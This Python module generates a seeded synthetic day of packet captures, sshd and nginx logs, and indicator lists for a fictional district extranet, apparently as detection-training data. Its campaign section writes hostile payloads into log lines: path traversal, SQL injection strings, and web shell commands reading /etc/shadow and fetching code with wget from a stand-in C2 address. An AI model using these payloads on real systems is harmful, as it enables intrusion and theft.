"""A small district extranet for one day, deterministic (seeded): what the packet sensor would capture on the
DMZ/core mirror port (a pcap built with scapy) and what the servers log (sshd on the mail server, nginx on the
portal), with an attack campaign woven into working-hours background traffic.

The campaign (Beijing time, UTC+8):
  09:10  reconnaissance: a port scan of the portal from 203.0.113.66
  09:25  SSH password spraying / brute force against the mail server, a successful login at 09:31
  09:40  web exploitation of the portal (path traversal, SQL injection, sqlmap), 09:50 a web shell is used
  10:00  the portal beacons every minute to a C2 address that is in the bundled IOC list, for an hour
  10:20  lateral movement from the portal: SMB sessions to 15 internal hosts
  10:40  DNS tunnelling from the portal: 400 long encoded names under one domain
"""

from __future__ import annotations

import base64
import hashlib
import random
import socket
import struct
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from functools import lru_cache
from pathlib import Path

import yaml

HOUR = 3600.0
BEIJING = 8 * HOUR
BEIJING_TZ = timezone(timedelta(hours=8))
ATTACKER, C2 = "203.0.113.66", "198.51.100.77"
PORTAL, MAIL, DNS, FILES = "10.10.0.10", "10.10.0.25", "10.10.0.53", "10.20.0.5"
TUNNEL_DOMAIN = "cdn-sync.example.net"

# departments -> streets -> residential committees, with their address blocks and servers
INVENTORY = [
    {"cidr": "10.0.0.0/8", "department": "区政务外网", "zone": "internal"},
    {"cidr": "10.10.0.0/24", "department": "区政务服务数据管理局", "zone": "dmz"},
    {"cidr": PORTAL, "asset": "政务门户网站", "criticality": 5, "hostname": "portal", "owner": "王芳"},
    {"cidr": MAIL, "asset": "政务邮件系统", "criticality": 4, "hostname": "mail", "owner": "李强"},
    {"cidr": DNS, "asset": "DNS解析服务器", "criticality": 4, "hostname": "dns"},
    {"cidr": "10.20.0.0/16", "department": "民政局", "zone": "internal"},
    {"cidr": FILES, "asset": "民政局文件服务器", "criticality": 3, "hostname": "files"},
    {"cidr": "10.30.0.0/16", "department": "卫健委", "zone": "internal"},
    {"cidr": "10.40.0.0/16", "department": "教育局", "zone": "internal"},
    {"cidr": "10.50.0.0/16", "department": "街道办", "street": "东城街道", "zone": "internal"},
    {"cidr": "10.50.2.0/24", "department": "街道办", "street": "东城街道", "committee": "花园社区居委会"},
    {"cidr": "10.60.0.0/16", "department": "街道办", "street": "西城街道", "zone": "internal"},
]
IOCS = [("ip", C2, "demo-c2-0001", "district-soc", 90), ("domain", "update-check.example-cdn.net", "demo-c2-0002",
                                                            "district-soc", 80)]
WORKSTATIONS = [f"10.{n}.1.{h}" for n in (20, 30, 40, 50, 60) for h in range(10, 30)]
EXTERNAL_SITES = [(f"192.0.2.{h}", f"www.site{h}.example.com") for h in range(10, 90)] + \
                 [(f"198.51.100.{h}", f"cdn{h}.example.org") for h in range(100, 140)]
INTERNAL_DOMAINS = ["portal.district.gov.cn", "mail.district.gov.cn", "oa.district.gov.cn", "www.gov.cn"]
USERS = ["zhangwei", "liuyang", "wangfang", "chenjing", "admin", "root", "oracle", "test", "guest", "postgres",
         "ubuntu", "user"]


@dataclass
class Scenario:
    day: datetime  # the UTC day simulated
    directory: Path
    pcap: Path = field(init=False)
    auth_log: Path = field(init=False)
    access_log: Path = field(init=False)
    inventory: Path = field(init=False)
    iocs: Path = field(init=False)

    def __post_init__(self) -> None:
        self.pcap = self.directory / "capture" / "dmz-mirror.pcap"
        self.auth_log = self.directory / "logs" / "mail" / "auth.log"
        self.access_log = self.directory / "logs" / "portal" / "access.log"
        self.inventory = self.directory / "inventory.yaml"
        self.iocs = self.directory / "iocs.csv"

    @property
    def start(self) -> float:
        return self.day.timestamp()

    @property
    def end(self) -> float:
        return self.start + 24 * HOUR

    def at(self, beijing_hhmm: str) -> float:
        hh, mm = (int(x) for x in beijing_hhmm.split(":"))
        return self.start + hh * HOUR + mm * 60 - BEIJING


def _mac(address: str) -> bytes:
    """A stable locally administered MAC per address."""
    return bytes([2, 0, *(int(octet) for octet in address.split("."))])


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(src: str, dst: str, proto: int, l4: bytes) -> bytes:
    """Ethernet + IPv4 around a transport segment whose checksum field is zero; fills both checksums."""
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    pseudo = s + d + struct.pack("!BBH", 0, proto, len(l4))
    offset = 16 if proto == 6 else 6
    l4 = l4[:offset] + struct.pack("!H", _checksum(pseudo + l4)) + l4[offset + 2:]
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 0, 0x4000, 64, proto, 0, s, d)
    header = header[:10] + struct.pack("!H", _checksum(header)) + header[12:]
    return _mac(dst) + _mac(src) + b"\x08\x00" + header + l4


_FLAGS = {"F": 0x01, "S": 0x02, "R": 0x04, "P": 0x08, "A": 0x10}


def tcp(sport: int, dport: int, flags: str, seq: int, ack: int, payload: bytes = b"") -> bytes:
    bits = sum(_FLAGS[f] for f in flags)
    return struct.pack("!HHIIHHHH", sport, dport, seq, ack, (5 << 12) | bits, 64240, 0, 0) + payload


def udp(sport: int, dport: int, payload: bytes) -> bytes:
    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


@lru_cache(maxsize=4096)
def _dns_messages(name: str, answer: str | None) -> tuple[bytes, bytes]:
    from scapy.layers.dns import DNS as DNSLayer
    from scapy.layers.dns import DNSQR, DNSRR

    query = DNSLayer(id=0, rd=1, qd=DNSQR(qname=name))
    reply = DNSLayer(id=0, qr=1, rd=1, ra=1, qd=DNSQR(qname=name), rcode=0 if answer else 3,
                     an=[DNSRR(rrname=name, ttl=300, rdata=answer)] if answer else [])
    return bytes(query), bytes(reply)


class PacketWriter:
    """TCP sessions, DNS exchanges and scans as packets, in time order. Application payloads (DNS, TLS) are
    built by scapy and cached; the Ethernet/IPv4/TCP/UDP framing is packed directly (scapy's per-packet build
    took ~1 ms a packet, a minute for the day)."""

    def __init__(self) -> None:
        self.packets: list[tuple[float, bytes]] = []
        self._port = 40000

    def _ephemeral(self) -> int:
        self._port = 40000 + (self._port - 40000 + 7) % 20000
        return self._port

    def tcp_session(self, ts: float, client: str, server: str, port: int, request: bytes, response: bytes,
                    rtt: float = 0.004) -> float:
        sport, seq, ack = self._ephemeral(), 1000, 5000
        out = self.packets

        def c(t: float, flags: str, sq: int, ak: int, data: bytes = b"") -> None:
            out.append((t, frame(client, server, 6, tcp(sport, port, flags, sq, ak, data))))

        def s(t: float, flags: str, sq: int, ak: int, data: bytes = b"") -> None:
            out.append((t, frame(server, client, 6, tcp(port, sport, flags, sq, ak, data))))

        c(ts, "S", seq, 0)
        s(ts + rtt, "SA", ack, seq + 1)
        c(ts + 2 * rtt, "A", seq + 1, ack + 1)
        t = ts + 2 * rtt
        if request:
            t += 0.001
            c(t, "PA", seq + 1, ack + 1, request)
        if response:
            t += rtt
            s(t, "PA", ack + 1, seq + 1 + len(request), response)
        t += 0.01
        cseq, sseq = seq + 1 + len(request), ack + 1 + len(response)
        c(t, "FA", cseq, sseq)
        s(t + rtt, "FA", sseq, cseq + 1)
        c(t + 2 * rtt, "A", cseq + 1, sseq + 1)
        return t + 2 * rtt

    def rejected(self, ts: float, client: str, server: str, port: int) -> None:
        sport = self._ephemeral()
        self.packets.append((ts, frame(client, server, 6, tcp(sport, port, "S", 1, 0))))
        self.packets.append((ts + 0.001, frame(server, client, 6, tcp(port, sport, "RA", 0, 2))))

    def dns(self, ts: float, client: str, name: str, answer: str | None) -> None:
        sport, txid = self._ephemeral(), struct.pack("!H", int(ts * 1000) & 0xFFFF)
        query, reply = _dns_messages(name, answer)
        self.packets.append((ts, frame(client, DNS, 17, udp(sport, 53, txid + query[2:]))))
        self.packets.append((ts + 0.002, frame(DNS, client, 17, udp(53, sport, txid + reply[2:]))))

    def write(self, path: Path) -> int:
        """A classic pcap (microsecond timestamps, Ethernet)."""
        path.parent.mkdir(parents=True, exist_ok=True)
        self.packets.sort(key=lambda p: p[0])
        with open(path, "wb") as out:
            out.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
            for ts, data in self.packets:
                sec, usec = divmod(round(ts * 1e6), 1_000_000)
                out.write(struct.pack("<IIII", sec, usec, len(data), len(data)) + data)
        return len(self.packets)


@lru_cache(maxsize=512)
def client_hello(sni: str) -> bytes:
    from scapy.layers.tls.extensions import ServerName, TLS_Ext_ServerName
    from scapy.layers.tls.handshake import TLSClientHello
    from scapy.layers.tls.record import TLS

    digest = hashlib.sha256(sni.encode()).digest()  # scapy randomises these; the same seed must give the same day
    hello = TLSClientHello(gmt_unix_time=int.from_bytes(digest[:4], "big"), random_bytes=digest[4:32], sid=b"",
                           ciphers=[0x1301, 0x1302, 0xC02F],
                           ext=[TLS_Ext_ServerName(servernames=[ServerName(servername=sni.encode())])])
    return bytes(TLS(msg=[hello]))


def _http(host: str, path: str, agent: str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept: */*\r\n\r\n".encode()


def _http_ok(body: int = 512) -> bytes:
    return (f"HTTP/1.1 200 OK\r\nServer: nginx/1.18.0\r\nContent-Type: text/html\r\nContent-Length: {body}\r\n\r\n"
            ).encode() + b"x" * body


def _busy(t: float, scenario: Scenario) -> float:
    """Share of the peak rate at time t: office hours 08-18 Beijing time, a lunch dip, quiet nights."""
    hour = ((t - scenario.start + BEIJING) / HOUR) % 24
    if 8 <= hour < 18:
        return 0.6 if 12 <= hour < 13 else 1.0
    return 0.08


def _clf(ts: float) -> str:
    return datetime.fromtimestamp(ts, BEIJING_TZ).strftime("%d/%b/%Y:%H:%M:%S +0800")


def _syslog(ts: float, host: str, message: str, rng: random.Random) -> str:
    """RFC 3164 as sshd writes it through rsyslog: local (Beijing) time without a year."""
    dt = datetime.fromtimestamp(ts, BEIJING_TZ)
    return f"{dt:%b} {dt.day:2d} {dt:%H:%M:%S} {host} sshd[{rng.randint(1000, 65000)}]: {message}"


def generate(directory: Path, day: datetime, seed: int = 20261121, peak_flows_per_hour: int = 360) -> Scenario:
    """Write the capture, the logs, the inventory and the IOC list of one simulated day into `directory`."""
    rng = random.Random(seed)
    scenario = Scenario(day.replace(hour=0, minute=0, second=0, microsecond=0, tzinfo=UTC), directory)
    packets = PacketWriter()
    access: list[tuple[float, str]] = []
    auth: list[tuple[float, str]] = []

    # -- background ----------------------------------------------------------------------------------------
    t = scenario.start
    while t < scenario.end:
        t += rng.expovariate(peak_flows_per_hour * _busy(t, scenario) / HOUR)
        host = rng.choice(WORKSTATIONS)
        kind = rng.random()
        if kind < 0.30:  # name lookups, mostly answered
            name = rng.choice(INTERNAL_DOMAINS + [s for _, s in EXTERNAL_SITES[:40]])
            packets.dns(t, host, name, None if rng.random() < 0.03 else rng.choice(EXTERNAL_SITES)[0])
        elif kind < 0.55:  # the portal, from the extranet
            path = rng.choice(["/", "/index.html", "/news/2026/11/notice.html", "/services/apply", "/static/app.js"])
            packets.tcp_session(t, host, PORTAL, 80, _http("portal.district.gov.cn", path), _http_ok())
            access.append((t, f'{host} - - [{_clf(t)}] "GET {path} HTTP/1.1" 200 {rng.randint(500, 9000)} "-" '
                              '"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0"'))
        elif kind < 0.80:  # HTTPS to outside sites, spread over many of them
            address, sni = rng.choice(EXTERNAL_SITES)
            packets.tcp_session(t, host, address, 443, client_hello(sni), b"\x16\x03\x03\x00\x04\x0e\x00\x00\x00")
        elif kind < 0.90:  # mail
            packets.tcp_session(t, host, MAIL, 25, b"EHLO ws.district.gov.cn\r\n", b"220 mail ESMTP Postfix\r\n")
        elif kind < 0.97:  # file shares of 民政局
            if host.startswith("10.20."):
                packets.tcp_session(t, host, FILES, 445, b"\x00\x00\x00\x2f\xfeSMB" + b"\x00" * 40,
                                    b"\x00\x00\x00\x41\xfeSMB" + b"\x00" * 60)
        else:  # administrators on the servers
            server = rng.choice([MAIL, PORTAL])
            packets.tcp_session(t, "10.20.1.12", server, 22, b"SSH-2.0-OpenSSH_8.9p1\r\n",
                                b"SSH-2.0-OpenSSH_8.4p1 Debian-5+deb11u3\r\n")
            if server == MAIL:
                auth.append((t + 1, _syslog(t + 1, "mail", "Accepted publickey for ops from 10.20.1.12 port "
                                                            f"{rng.randint(40000, 60000)} ssh2", rng)))
    for n in range(int(24 * 60 / 5)):  # citizens from outside on the portal
        ts = scenario.start + n * 300 + rng.uniform(0, 290)
        if rng.random() < 0.6 * _busy(ts, scenario) + 0.1:
            citizen = f"192.0.2.{rng.randint(100, 250)}"
            access.append((ts, f'{citizen} - - [{_clf(ts)}] "GET /services/apply HTTP/1.1" 200 4211 "-" '
                               '"Mozilla/5.0 (iPhone; CPU iPhone OS 17_0) Mobile/15E148"'))

    # -- the campaign -------------------------------------------------------------------------------------------
    t = scenario.at("09:10")
    for i, port in enumerate(rng.sample(range(1, 10000), 200)):  # port scan: most ports refuse
        if port in (80, 443):
            continue
        packets.rejected(t + i * 0.2, ATTACKER, PORTAL, port)
    t = scenario.at("09:25")
    for i in range(36):  # spraying accounts, then guessing admin
        user = USERS[i % len(USERS)]
        invalid = "" if user in ("admin", "root") else "invalid user "
        auth.append((t + i * 5, _syslog(t + i * 5, "mail", f"Failed password for {invalid}{user} from {ATTACKER} "
                                                            f"port {50000 + i} ssh2", rng)))
    t = scenario.at("09:31")
    auth.append((t, _syslog(t, "mail", f"Accepted password for admin from {ATTACKER} port 50100 ssh2", rng)))
    t = scenario.at("09:40")
    for i, (path, agent) in enumerate([
            ("/services/download?file=../../../../etc/passwd", "Mozilla/5.0"),
            ("/news/view.php?id=1%27%20OR%20%271%27=%271", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            ("/news/view.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users", "sqlmap/1.7.2#stable"),
            ("/uploads/../../conf/web.config", "Mozilla/5.0")]):
        access.append((t + i * 30, f'{ATTACKER} - - [{_clf(t + i * 30)}] "GET {path} HTTP/1.1" 200 1043 "-" '
                                   f'"{agent}"'))
    t = scenario.at("09:50")
    for i, command in enumerate(["whoami", "id", "uname%20-a", "cat%20/etc/shadow", "wget%20http://198.51.100.77/x"]):
        access.append((t + i * 40, f'{ATTACKER} - - [{_clf(t + i * 40)}] "GET /uploads/image.php?cmd={command} '
                                   'HTTP/1.1" 200 87 "-" "Mozilla/5.0"'))
    t = scenario.at("10:00")
    for i in range(60):  # beaconing: every minute, a little jitter
        packets.tcp_session(t + i * 60 + rng.uniform(-2, 2), PORTAL, C2, 443,
                            client_hello("update-check.example-cdn.net"), b"\x16\x03\x03\x00\x04\x0e\x00\x00\x00")
    t = scenario.at("10:20")
    for i, target in enumerate(rng.sample(WORKSTATIONS, 15)):
        packets.tcp_session(t + i * 12, PORTAL, target, 445, b"\x00\x00\x00\x2f\xfeSMB" + b"\x00" * 40,
                            b"\x00\x00\x00\x41\xfeSMB" + b"\x00" * 60)
    t = scenario.at("10:40")
    secret = rng.randbytes(400 * 32)
    for i in range(400):
        label = base64.b32encode(secret[i * 32:(i + 1) * 32]).decode().rstrip("=").lower()
        packets.dns(t + i * 0.5, PORTAL, f"{label}.{i:04x}.{TUNNEL_DOMAIN}", "192.0.2.200")

    # -- files --------------------------------------------------------------------------------------------------
    packets.write(scenario.pcap)
    for path, lines in ((scenario.auth_log, auth), (scenario.access_log, access)):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("".join(line + "\n" for _, line in sorted(lines)), encoding="utf-8")
    scenario.inventory.write_text(yaml.safe_dump({"networks": INVENTORY}, allow_unicode=True, sort_keys=False),
                                  encoding="utf-8")
    scenario.iocs.write_text("type,value,id,source,confidence\n" + "".join(
        f"{kind},{value},{ioc_id},{source},{confidence}\n" for kind, value, ioc_id, source, confidence in IOCS),
        encoding="utf-8")
    return scenario
